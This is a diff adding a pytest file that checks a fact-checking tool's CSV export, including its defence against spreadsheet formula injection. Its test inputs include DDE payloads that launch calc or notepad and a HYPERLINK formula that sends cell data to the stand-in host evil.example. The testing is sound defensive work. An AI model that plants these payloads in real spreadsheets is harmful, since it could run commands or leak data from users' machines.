@@ -1,0 +1,141 @@
+"""Claims as CSV: whole, and inert in a spreadsheet."""
+
+import csv
+import io
+from collections.abc import Callable
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from claimcheck.check.verify import verify
+from claimcheck.load.corpus import load
+from claimcheck.load.project import Project
+from claimcheck.problem import Place
+from claimcheck.render.csv import COLUMNS, to_csv
+from claimcheck.report.model import CheckedClaim, Report
+
+PROJECT = Path(__file__).resolve().parent.parent / "golden" / "project"
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1-202-555-0100",
+    "-5 %",
+    "-2+3+cmd|' /C notepad'!A1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+@cache
+def _verified() -> Report:
+    return verify(load(Project(PROJECT / "claims", PROJECT / "seeds", "claims")))
+
+
+@pytest.fixture
+def report() -> Report:
+    """The small fixed project, verified."""
+    return _verified()
+
+
+def _with_text(claim: CheckedClaim, text: str) -> CheckedClaim:
+    return claim._replace(claim=replace(claim.claim, text=text))
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _restored(cell: str) -> str:
+    """Return the text of a cell: a `'` before what looks like a formula is none of its own."""
+    return cell[1:] if cell[:1] == "'" and cell[1:2] in tuple("=+-@\t\r") else cell
+
+
+def test_header_stands_first_and_lines_end_as_in_rfc_4180() -> None:
+    """Without claims there is the header alone, ended by CR LF."""
+    assert to_csv([]) == ",".join(COLUMNS) + "\r\n"
+
+
+def test_a_claim_is_a_row_with_every_axis(report: Report) -> None:
+    """A row holds the claim, its axes, its counts, the person's verdict and its place."""
+    assert _rows(to_csv([report.claim("cost-as-told")])) == [
+        {
+            "id": "cost-as-told",
+            "text": "The harbour bridge costs 90 million euros",
+            "tags": "money bridge",
+            "anchor": "found",
+            "corroboration": "uncorroborated",
+            "origins_min": "0",
+            "origins_max": "0",
+            "articles": "0",
+            "denials_min": "0",
+            "denials_max": "0",
+            "consistency": "consistent",
+            "fit": "overreaches",
+            "verdict": "misleading",
+            "file": "claims/bridge.yaml",
+            "line": "63",
+        }
+    ]
+
+
+def test_rows_are_in_the_order_given(report: Report) -> None:
+    """The rows keep the order of the claims."""
+    chosen = [report.claim("start-in-may"), report.claim("cost-limit")]
+    assert [row["id"] for row in _rows(to_csv(chosen))] == ["start-in-may", "cost-limit"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize(
+    ("column", "with_formula"),
+    [
+        ("text", _with_text),
+        ("tags", lambda claim, text: claim._replace(claim=replace(claim.claim, tags=(text,)))),
+        (
+            "verdict",
+            lambda claim, text: claim._replace(
+                claim=replace(claim.claim, verdict=replace(claim.claim.verdict, rating=text))
+            ),
+        ),
+    ],
+)
+def test_a_formula_is_inert_and_restored(
+    formula: str, column: str, with_formula: Callable[[CheckedClaim, str], CheckedClaim], report: Report
+) -> None:
+    """What a spreadsheet would take for a formula has a `'` before it, and is whole without it."""
+    cell = _rows(to_csv([with_formula(report.claim("cost-as-told"), formula)]))[0][column]
+    assert (cell[0], _restored(cell)) == ("'", formula)
+
+
+@pytest.mark.xfail(strict=True, reason="the names of folders and files are written as they are")
+def test_a_formula_in_a_file_name_is_inert(report: Report) -> None:
+    """A folder of claims that is named like a formula is inert, too."""
+    claim = report.claim("cost-as-told")
+    moved = claim._replace(claim=replace(claim.claim, place=Place("=1+1/a.yaml")))
+    assert _rows(to_csv([moved]))[0]["file"] == "'=1+1/a.yaml"
+
+
+@pytest.mark.parametrize("text", ["a,b", 'say "x"', "two\nlines", "ü 东 👍", " =1", "it's", "5 - 3"])
+def test_other_texts_stay_as_they_are(text: str, report: Report) -> None:
+    """A text that is no formula is written as it is, quoted where CSV asks for it."""
+    assert _rows(to_csv([_with_text(report.claim("cost-as-told"), text)]))[0]["text"] == text
+
+
+@pytest.mark.xfail(strict=True, reason="`'=x` and `=x` are both written as `'=x`")
+def test_a_text_that_begins_with_an_apostrophe_is_restored(report: Report) -> None:
+    """A text that already begins with `'` and a formula is told apart from the formula."""
+    cell = _rows(to_csv([_with_text(report.claim("cost-as-told"), "'=x")]))[0]["text"]
+    assert _restored(cell) == "'=x"
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="'")))
+def test_any_text_is_restored(text: str) -> None:
+    """Whatever the text, a reader of CSV gets it back, and no cell begins like a formula."""
+    cell = _rows(to_csv([_with_text(_verified().claim("cost-as-told"), text)]))[0]["text"]
+    assert (_restored(cell), cell.startswith(("=", "+", "-", "@", "\t", "\r"))) == (text, False)
